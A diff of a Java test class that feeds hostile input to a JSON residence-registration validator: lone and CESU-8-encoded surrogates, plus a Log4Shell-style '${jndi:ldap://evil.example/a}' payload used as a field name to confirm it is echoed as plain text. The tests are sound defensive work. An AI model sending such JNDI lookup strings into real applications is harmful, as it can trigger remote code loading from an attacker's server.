@@ -137,19 +137,35 @@ class HostileInputTest {
     }
 
     /**
-     * Jackson's UTF-8 decoder lets an encoded surrogate (CESU-8, {@code ED A0 80}) through as a lone
-     * UTF-16 surrogate, and JSON's {@code \\uD800} escape gives one too; in an id it reaches the
-     * report, which still writes well-formed JSON (the surrogate escaped).
+     * JSON's {@code \\uD800} escape gives a lone UTF-16 surrogate; in an id it reaches the report,
+     * which still writes well-formed JSON (the surrogate escaped).
      */
     @Test
     void loneSurrogates_inIds_giveAWellFormedReport() {
-        byte[] head = ("{" + REG + ", \"residences\": [{\"id\": \"R").getBytes(StandardCharsets.UTF_8);
-        byte[] tail = ("\", \"person\": \"P\\uD800\", \"premises\": \"H\\uDC00x\", \"basis\": {\"type\": \"OWNER\"},"
+        byte[] doc = ("{" + REG + ", \"residences\": [{\"id\": \"R\\uD800\", \"person\": \"P\\uD800\","
+                + " \"premises\": \"H\\uDC00x\", \"basis\": {\"type\": \"OWNER\"},"
                 + " \"movedIn\": \"2026-11-01\", \"registeredOn\": \"2026-11-01\"}]}").getBytes(StandardCharsets.UTF_8);
-        Report r = validate(concat(head, new byte[] {(byte) 0xed, (byte) 0xa0, (byte) 0x80}, tail));
+        Report r = validate(doc);
         FuzzSupport.checkReport(r);
         assertThat(r.findings(RuleCode.REFERENCE_UNKNOWN)).isNotEmpty();
         assertThat(r.toJson(Locale.ENGLISH)).contains("\"residence:R\\uD800\"").contains("premises:H\\uDC00x");
+    }
+
+    /**
+     * An encoded surrogate (CESU-8, {@code ED A0 80}) is not UTF-8: Jackson's decoder refuses it
+     * (Jackson 2.23 does; 2.20 let it through as a lone surrogate), so the document
+     * is malformed, and the report says so in well-formed JSON.
+     */
+    @Test
+    void encodedSurrogate_isMalformedUtf8() {
+        byte[] head = ("{" + REG + ", \"residences\": [{\"id\": \"R").getBytes(StandardCharsets.UTF_8);
+        byte[] tail = ("\", \"person\": \"P1\", \"premises\": \"H1\", \"basis\": {\"type\": \"OWNER\"},"
+                + " \"movedIn\": \"2026-11-01\", \"registeredOn\": \"2026-11-01\"}]}").getBytes(StandardCharsets.UTF_8);
+        Report r = validate(concat(head, new byte[] {(byte) 0xed, (byte) 0xa0, (byte) 0x80}, tail));
+        FuzzSupport.checkReport(r);
+        assertThat(r.findings(RuleCode.JSON_MALFORMED)).isNotEmpty();
+        assertThat(r.isValid()).isFalse();
+        assertNoMarkers(r);
     }
 
     /**
@@ -471,8 +487,8 @@ class HostileInputTest {
         assertThat(r.findings()).extracting(Finding::path)
                 .contains("/{reason}", "/persons/0/${jndi:ldap:~1~1evil.example~1a}");
         // the field name goes in as text: "{reason}" is not replaced by the reason
-        assertThat(messages).contains("Field {reason} is invalid: unknown field.",
-                "Field ${jndi:ldap://evil.example/a} is invalid: unknown field.");
+        assertThat(messages).contains("Field {reason} is invalid: unknown field. Correct the value.",
+                "Field ${jndi:ldap://evil.example/a} is invalid: unknown field. Correct the value.");
     }
 
     /**
